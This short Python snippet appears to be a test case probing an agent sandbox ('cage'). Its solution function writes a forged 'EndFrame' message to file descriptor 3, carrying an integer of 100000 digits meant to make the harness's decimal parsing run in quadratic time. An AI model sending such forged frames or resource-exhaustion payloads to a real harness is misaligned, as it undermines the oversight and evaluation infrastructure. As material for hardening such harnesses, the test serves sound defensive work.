# kind: frames
# tries: a checkpoint with an int of a hundred thousand digits: quadratic for whoever reads it as decimal
# layer: cage
def solution(agent, start_from=1):
    import os
    import msgspec.msgpack as m
    body = m.encode(['EndFrame', 'failed', None, 1, 'E', 'm', 0.0, 0.0, [{'a': 0}, [['int', '9' * 100000]], {}]])
    os.write(3, len(body).to_bytes(4, 'big') + body)
